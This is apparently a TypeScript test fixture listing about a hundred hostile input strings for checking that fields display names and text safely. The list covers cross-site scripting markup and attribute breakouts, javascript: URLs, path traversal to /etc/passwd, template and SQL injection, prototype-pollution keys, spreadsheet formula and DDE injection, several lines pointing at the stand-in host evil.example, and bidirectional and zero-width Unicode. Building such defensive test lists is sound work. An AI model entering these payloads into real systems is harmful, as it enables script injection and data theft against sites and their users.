// A hundred texts that somebody might type as a name or put into a file: markup, scripts, templates, formulas, writing that
// runs the other way, characters without width, words that a program may take for its own. Each is one line of at most 60
// characters without blanks around it, and unlike every other when case and width are forgotten, so that every field that
// shows a name or a text can show it whole. Markup names the attribute `data-made`: no element of a page may have it.

const markup = [
  '<script data-made>alert(1)</script>',
  '<img src=x data-made onerror=alert(1)>',
  '<svg data-made onload=alert(1)>',
  '<svg><script data-made>alert(1)</script></svg>',
  '<iframe data-made srcdoc="<script>alert(1)</script>">',
  '<b data-made>bold</b>',
  '<a data-made href="javascript:alert(1)">x</a>',
  '<body data-made onload=alert(1)>',
  '<details data-made open ontoggle=alert(1)>',
  '<video data-made><source onerror=alert(1)></video>',
  '<math><mi data-made xlink:href="data:x,y">z',
  '<style data-made>*{display:none}</style>',
  '<link data-made rel=stylesheet href=//evil.example/x>',
  '<base data-made href="//evil.example/">',
  '<meta data-made http-equiv=refresh content=0;url=//x.y>',
  '<form data-made action=//evil.example><button>x',
  '<object data-made data=//evil.example/x>',
  '<embed data-made src=//evil.example/x>',
  '<template data-made><i>x</i></template>',
  '<x-made data-made></x-made>',
  '<input data-made autofocus onfocus=alert(1)>',
  '<marquee data-made onstart=alert(1)>',
  '<audio data-made src=//evil.example/x onerror=alert(1)>',
  '<p data-made style="position:fixed;inset:0">',
  '<a data-made ping=//evil.example href=#>x</a>',
  '<img data-made srcset="//evil.example/x 1x">',
  '<ScRiPt data-made src=//evil.example></sCrIpT>',
  '<<b data-made>x</b>',
  '<!--<img data-made src=x>-->',
  '<![CDATA[<i data-made>]]>',
  '<?xml version="1.0"?><i data-made/>',
  '</title><i data-made>',
  '</textarea><i data-made>',
  '</option></select><i data-made>',
  '</script><i data-made>',
  '</td></tr></table><i data-made>',
  '</p><i data-made>',
  '</style><i data-made>',
  '</noscript><i data-made>',
  '</astro-island><i data-made>',
  '--><i data-made>',
  ']]><i data-made>',
];

const attributes = [
  '" data-made onmouseover="alert(1)',
  "' data-made onmouseover='alert(1)",
  '"><i data-made>',
  "'><i data-made>",
  '` data-made onclick=alert(1)',
  'x" autofocus onfocus="alert(1)" data-made="',
  '&lt;i data-made&gt;',
  '&#60;i data-made&#62;',
  '&amp;lt;i data-made',
  '&quot; data-made',
  '\\u003ci data-made\\u003e',
  '\\x3ci data-made\\x3e',
  '%3Ci data-made%3E',
  '+ADw-i data-made+AD4-',
];

const addresses = [
  'javascript:alert(1)',
  'java\u00adscript:alert(2)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  '//evil.example/x',
  'https://evil.example/?q=1#x',
  '../../../etc/passwd',
  'C:\\Windows\\system32',
  'file:///etc/passwd',
];

const templates = [
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '{n} {name} {query} {date}',
  '{0}',
  '%s %d %n',
  "$& $1 $$ $` $'",
  '#{7*7}',
  '<%= 7*7 %>',
  '[[7*7]]',
  '*bold* _x_ [a](javascript:alert(1))',
  '![x](//evil.example/x)',
  "'; DROP TABLE attempts;--",
  '"}],"attempts":[{"id":"x"}]',
];

const words = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'null',
  'undefined',
  'NaN',
  'true',
  '[object Object]',
];

const formulas = [
  '=1+1',
  '=HYPERLINK("http://evil.example","x")',
  '+1+cmd|x!A0',
  '-2+3',
  '@SUM(A1:A9)',
  '＝1+2',
  '|calc',
];

const letters = [
  '\u202egnp.exe\u202c',
  '\u2066left\u2069\u2067right\u2069',
  'שלום עולם',
  'مرحبا بالعالم',
  'a\u200bb\u200cc\u200dd\u2060e',
  '\u0301\u0302\u0303\u0304 above',
  'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031ea\u0349\u034d\u0328l',
  '👩‍👩‍👧‍👦👨🏽‍🚀🏴󠁧󠁢󠁳󠁣󠁴󠁿',
  '𠮷野家',
  '王小明《待客之道》“好”',
  'ﷺﷺﷺ',
  'W'.repeat(60),
];

/** All of them. */
export const payloads: readonly string[] = [
  ...markup,
  ...attributes,
  ...addresses,
  ...templates,
  ...words,
  ...formulas,
  ...letters,
];
